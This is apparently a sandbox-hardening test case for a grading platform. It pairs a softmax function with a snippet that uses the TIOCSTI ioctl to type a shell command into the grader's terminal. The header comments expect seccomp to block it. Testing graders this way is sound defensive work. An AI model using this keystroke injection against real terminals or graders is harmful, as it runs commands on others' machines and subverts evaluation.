# expect: error; earned 0; says "[Errno 25]"
# way: Types a command into the terminal of whoever grades.
# section: the TA and the platform
# stopped by: seccomp
import fcntl

for letter in b"touch gained-by-an-attack\n":
    fcntl.ioctl(1, 0x5412, bytes([letter]))


def softmax(scores, dim=-1, temperature=1.0):
    if temperature <= 0:
        raise ValueError
    powers = (scores / temperature - (scores / temperature).amax(dim, keepdim=True)).exp()
    return powers / powers.sum(dim, keepdim=True)
